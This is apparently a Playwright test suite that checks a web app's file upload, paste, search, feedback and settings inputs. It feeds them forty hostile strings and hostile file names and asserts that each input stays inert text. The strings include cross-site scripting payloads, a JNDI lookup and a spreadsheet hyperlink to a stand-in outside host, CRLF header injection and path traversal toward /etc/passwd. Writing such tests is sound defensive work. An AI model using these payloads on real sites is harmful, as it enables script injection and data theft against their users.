"""Forty other hostile strings, by every way into the page: file name, upload, paste, search, settings, feedback."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable, Generator
    from contextlib import AbstractContextManager
    from pathlib import Path

    Ask = Callable[[Any, str], Any]
    Open = Callable[..., Any]

pytestmark = [pytest.mark.browser, pytest.mark.slow]

HOSTILE = (
    "<ScRiPt>window.ran=1</sCrIpT>",
    "<img/src='x'/onerror=window.ran=1//",
    "<svg/onload=window.ran=1>",
    "</script><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    '<iframe srcdoc="<img src=x onerror=parent.window.ran=1>">',
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<embed src='javascript:window.ran=1'>",
    "<a href='data:text/html,<script>window.ran=1</script>'>x</a>",
    '[x](data:text/html;base64,PHNjcmlwdD4=) ![y](//outside.example/p.png "t")',
    "[a]: javascript:window.ran=1\n[click][a]",
    '<https://outside.example/"onmouseover=window.ran=1>',
    "\\(\\href{javascript:window.ran=1}{a}\\) $\\url{//outside.example}$",
    '" style="position:fixed;inset:0;background:url(//outside.example/b.png)',
    "'><style>@import '//outside.example/c.css';</style>",
    "{{7*7}} {%raw%} {#if x} {@html '<img src=x onerror=window.ran=1>'} ${{<%[%'\"}}%\\",
    "`${window.ran=1}` \\u0022+window.ran=1+\\u0022",
    "\u202eexe.fdp\u202c \u2067evil\u2069",
    "p\u0430ypal.com \uff53\uff43\uff52\uff49\uff50\uff54 \uff1cscript\uff1e",
    "A" * 1500,
    "\ufdfa" * 60,
    "👩\u200d👩\u200d👧\u200d👦" * 50,
    "\x00nul\x00",
    "\ufffe\uffff\ud7ff",
    "\u2028window.ran=1\u2029",
    "%00%0d%0aSet-Cookie:ran=1",
    "${jndi:ldap://outside.example/a}",
    '=HYPERLINK("//outside.example")',
    '<!--#exec cmd="ls"--><?php echo 1?>',
    "<plaintext>",
    "<xmp><script>window.ran=1</script></xmp>",
    "<frameset onload=window.ran=1>",
    "<marquee onstart=window.ran=1>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=window.ran=1>",
    "<form id=answer><input name=innerHTML>",
    "<div id=question name=citewireTheme data-event=clear data-cite=1 data-save=x.html>click</div>",
    '<math><mi xlink:href="javascript:window.ran=1">x</mi></math>',
    "<table background='//outside.example/t.png'>",
    "&#x3c;script&#x3e;window.ran=1&#x3c;/script&#x3e;",
    "#" * 1500,
)
NAMES = (
    "../../etc/passwd.md",
    "..\\..\\windows.md",
    "/absolute.md",
    "a" * 252 + ".md",
    "\u00e4" * 125 + ".md",
    ".md",
    " .md",
    "con.md",
    "x.md/",
    "\u05ea\u05de\u05d5\u05e0\u05d4.md",
    "a\u202edm.exe.md",
    "\n\r.md",
    ".hidden.md",
    "-rf.md",
    "a\x00b.md",
    '"; filename=x.html; y=".md',
)
FORBIDDEN = """() => {
  const own = ':is(#scope, #answer, #opening, #earlier, #pane, #articles, #told, #digest, #digest-pane, #writer)';
  const allowed = new Set(('DIV ARTICLE SECTION HEADER NAV H2 H3 P SPAN STRONG BUTTON UL OL LI LABEL TEXTAREA '
    + 'DETAILS SUMMARY PRE BLOCKQUOTE MARK FIGURE FIGCAPTION PROGRESS').split(' '));
  const armed = (e) => [...e.attributes].some((a) => a.name.startsWith('on') || ['href', 'style'].includes(a.name));
  const wide = document.documentElement.scrollWidth > innerWidth ? ['the page scrolls sideways'] : [];
  const inside = [...document.querySelectorAll(`${own} *`)].filter((e) => !e.matches('[data-testid=status-tracker]'));
  const odd = inside.filter((e) => !allowed.has(e.tagName) || armed(e));
  return [...wide, ...odd.map((e) => e.outerHTML.slice(0, 200))];
}"""


@pytest.fixture
def watched(
    open_page: Open, serve_library: Callable[[Path], AbstractContextManager[str]], tmp_path: Path
) -> Generator[Any]:
    """A page over a library of its own, on which a script, a dialog, a foreign request or element is a failure."""
    with serve_library(tmp_path / "library") as address:
        page = open_page(address)
        seen: list[str] = []
        page.on("dialog", lambda dialog: seen.append(dialog.message))
        page.on("framenavigated", lambda frame: seen.append(f"went to {frame.url}"))
        known = (address, "data:", "blob:")
        page.on("request", lambda asked: None if asked.url.startswith(known) else seen.append(asked.url))
        yield page
        assert seen == []
        assert page.evaluate("window.ran") is None
        page.close()


def upload(page: Any, named: dict[str, bytes]) -> list[str]:
    files = [{"name": name, "mimeType": "text/markdown", "buffer": body} for name, body in named.items()]
    before = page.locator("#told").inner_html()
    page.locator("#files input[type=file]").set_input_files(files)
    page.wait_for_function(
        "(before) => { const told = document.querySelector('#told');"
        " return told.innerHTML !== before && told.querySelector('.receipt') && !told.querySelector('.working'); }",
        arg=before,
    )
    page.wait_for_timeout(300)  # the box is emptied
    page.locator("#files .file-preview").wait_for(state="detached")
    said: list[str] = page.locator(".receipt").all_inner_texts()
    return said


def test_there_are_forty_others() -> None:
    assert len(set(HOSTILE)) == 40


def test_file_names_and_texts_stay_text(watched: Any, tmp_path: Path) -> None:
    watched.get_by_role("tab", name="Library").click()
    watched.locator("#articles li").first.wait_for()
    for first in range(0, 40, 10):
        some = {
            f"{text[:120]} {number}.md": f"Report {number} said this: {text} Thirty people heard it in Verden.".encode()
            for number, text in enumerate(HOSTILE[first : first + 10], first)
        }
        assert len(upload(watched, some)) == 10
        assert watched.evaluate(FORBIDDEN) == []
    for number, name in enumerate(NAMES):
        assert upload(watched, {name: f"File {number} said that thirty people heard it in Verden.".encode()})
        assert watched.evaluate(FORBIDDEN) == []
    outside = [found.name for found in tmp_path.rglob("*") if found.name in {"passwd.md", "windows.md", "absolute.md"}]
    assert outside == []
    for text in HOSTILE:
        watched.get_by_label("Search titles and sources").fill(text)
        watched.wait_for_timeout(150)
        assert watched.evaluate(FORBIDDEN) == []
    watched.get_by_role("tab", name="Summary").click()
    watched.locator("#brief-articles input").click()
    watched.wait_for_timeout(500)
    watched.keyboard.press("Escape")
    watched.get_by_role("button", name="Summarise", exact=True).click()
    watched.locator("#digest .turn:not(.running)").wait_for()
    assert watched.evaluate(FORBIDDEN) == []


def test_what_is_typed_anywhere_stays_text(watched: Any, ask: Ask) -> None:
    card = ask(watched, "Who was on board?")
    card.locator(".wrong summary").click()
    for number, text in enumerate(HOSTILE):
        card.locator("[name=words]").fill(text)
        card.locator("[name=reason]").fill(text.replace("\n", " "))
        card.get_by_role("button", name="Send").click()
        watched.wait_for_timeout(150)
        assert watched.evaluate(FORBIDDEN) == [], number
    watched.get_by_role("tab", name="Settings").click()
    watched.locator("#writer .writer").wait_for()
    for number, text in enumerate(HOSTILE):
        for field in ("name", "address"):
            watched.locator(f"#model-{field} input").fill(text.replace("\n", " "))
        watched.get_by_role("button", name="Use this model").click()
        watched.wait_for_timeout(200)
        assert watched.evaluate(FORBIDDEN) == [], number


def test_pasted_titles_and_questions_stay_text(watched: Any) -> None:
    watched.get_by_role("tab", name="Library").click()
    watched.locator("#articles li").first.wait_for()
    watched.get_by_role("button", name="Paste an article").click()
    for number, text in enumerate(HOSTILE):
        watched.get_by_label("Title", exact=True).fill(text.replace("\n", " "))
        watched.get_by_label("Text", exact=True).fill(
            f"Paper {number} printed {text} and sold thirty copies in Verden."
        )
        watched.get_by_role("button", name="Add to the library").click()
        watched.locator(".receipt:not(.working)").first.wait_for()
        watched.wait_for_timeout(150)
        assert watched.evaluate(FORBIDDEN) == [], number
    watched.get_by_role("tab", name="Ask").click()
    for number, text in enumerate(HOSTILE):
        watched.get_by_label("Your question").fill(text)
        watched.get_by_role("button", name="Ask", exact=True).click()
        watched.wait_for_timeout(300)
        watched.locator("#ask").wait_for()
        assert watched.evaluate(FORBIDDEN) == [], number
